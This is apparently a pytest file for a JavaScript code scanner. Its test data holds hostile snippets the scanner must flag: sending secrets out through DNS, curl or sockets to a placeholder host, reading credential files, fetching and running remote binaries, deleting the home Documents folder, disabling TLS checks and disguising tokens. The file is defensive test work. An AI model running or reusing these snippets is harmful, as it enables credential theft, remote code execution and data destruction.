"""What JavaScript does by detours, and what only looks like it."""

import base64

import pytest
from script_kit import found_in, of_script

TOKEN = "Zq81LmXv" + "R2pTy6Wd" + "K0sHb4Nc"
PASSWORD = "Maple-7" + "Tree!42"
CAPABILITY, SECRET = "excessive_capability", "secrets_exposure"
BAD = {
    "chunks in names": (
        (
            "import dns from 'dns';\nconst t = Object.keys(<ENV>).map((k) => <ENV>[k]).join('|');\n"
            "(Buffer.from(t).toString('hex').match(/.{1,60}/g) || []).forEach((p) => dns.lookup(`${p}.<HOST>`));"
        ),
        ("critical", SECRET, 3),
    ),
    "a file that others send": (
        (
            "import fs from 'fs';\nimport cp from 'child_process';\nfs.writeFileSync('/tmp/a', String(<ENV>));\n"
            "cp.spawn('<CURL>', ['-T', '/tmp/a', 'https://<HOST>']);"
        ),
        ("critical", SECRET, 4),
    ),
    "a stream into a socket": (
        (
            "import fs from 'fs';\nimport net from 'net';\nconst s = net.connect(1, '<HOST>');\n"
            "fs.createReadStream(`${<ENV>.HOME}/.pypirc`).pipe(s);"
        ),
        ("critical", SECRET, 4),
    ),
    "the rest of the parameters": (
        (
            "import fs from 'fs';\nconst pack = (...p) => fs.readFileSync(p.join('/')).toString('hex');\n"
            "fetch('https://<HOST>', { headers: { 'X-Id': pack('~', '.config/gcloud', 'x.db') } });"
        ),
        ("critical", SECRET, 3),
    ),
    "a library": (
        (
            "import fs from 'fs';\nconst a = await fetch('https://<HOST>');\n"
            "fs.writeFileSync('/tmp/x.node', Buffer.from(await a.arrayBuffer()));\nprocess.dlopen({}, '/tmp/x.node');"
        ),
        ("critical", CAPABILITY, 4),
    ),
    "a stream that is run": (
        (
            "import fs from 'fs';\nimport https from 'https';\nimport cp from 'child_process';\nconst file = '/x';\n"
            "https.get('https://<HOST>', (r) => r.pipe(fs.createWriteStream(file)));\ncp.execFile(file);"
        ),
        ("critical", CAPABILITY, 6),
    ),
    "a folder of the home": (
        (
            "import fs from 'fs';\nimport os from 'os';\nconst d = [os.homedir(), 'Documents'].join('/');\n"
            "fs.readdirSync(d).forEach((n) => fs.rmSync(`${d}/${n}`, { recursive: true }));"
        ),
        ("critical", CAPABILITY, 4),
    ),
    "a computed global": (
        "const pick = (...p) => globalThis[p.join('')];\npick('ev', 'al')(given);",
        ("medium", CAPABILITY, 2),
    ),
    "checks off for an agent": ("agent.options.rejectUnauthorized = false;", ("medium", CAPABILITY, 1)),
    "checks off for a child": (
        "run({ env: { NODE_TLS_REJECT_UNAUTHORIZED: '0' } });",
        ("medium", CAPABILITY, 1),
    ),
    "a token in fields": (
        f"const p = {{ a: '{TOKEN[:9]}', b: '{TOKEN[9:]}' }};\nexport const t = `${{p.a}}${{p.b}}`;",
        ("high", SECRET, 2),
    ),
    "a token backwards": (
        f"export const t = '{TOKEN[::-1]}'.split('').reverse().join('');",
        ("high", SECRET, 1),
    ),
    "a token in codes": (
        f"export const t = String.fromCharCode({', '.join(str(ord(c)) for c in TOKEN)});",
        ("high", SECRET, 1),
    ),
    "a token packed": (f"export const t = '{base64.b64encode(TOKEN.encode()).decode()}';", ("high", SECRET, 1)),
    "a token in hex": (f"const T = '{TOKEN.encode().hex()}';", ("high", SECRET, 1)),
    "an address": (f"connect('amqp://u:{PASSWORD.replace('!', '-')}@q.invalid/jobs');", ("high", SECRET, 1)),
    "a password that stands in": (f"function open(user, password = '{PASSWORD}') {{}}", ("high", SECRET, 1)),
    "a password in an object": (f"open({{ host: 'h', password: opts.pw || '{PASSWORD}' }});", ("high", SECRET, 1)),
    "a password that is given": (
        f"const open = (user, password) => user;\nopen('root', '{PASSWORD}');",
        ("high", SECRET, 2),
    ),
}
FINE = (
    "import fs from 'fs';\nimport os from 'os';\nfs.rmSync(`${os.homedir()}/.cache/mine`, { recursive: true });",
    "import fs from 'fs';\nfs.writeFileSync('/tmp/a', 'x');\nrequire('/tmp/a');",
    "const m = <ENV>.PATH.match(/bin/);\nconsole.log(m);",
    "const table = { a: 1 };\ntable[name]();",
    "new Agent({ rejectUnauthorized: true });",
    "const url = 'https://user:password@example.com/';",
    "const sum = 'd41d8cd98f00b204e9800998ecf8427e';",
    "const id = 'a1b2' + 'c3d4';",
    "const labels = { password: 'Password', passwordHint: 'Type it twice, please' };",
    "const icon = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjwvc3ZnPg==';",
    "const path = ['src', 'index', 'main'].join('/');",
)


@pytest.mark.parametrize("name", BAD)
def test_a_detour_is_followed_to_its_line(name: str) -> None:
    source, expected = BAD[name]
    assert expected in found_in(of_script(source, "index.mjs"), "index.mjs")


@pytest.mark.parametrize("source", FINE)
def test_what_only_looks_like_it_is_let_be(source: str) -> None:
    assert {f for f in found_in(of_script(source)) if f[0] != "low"} == set()
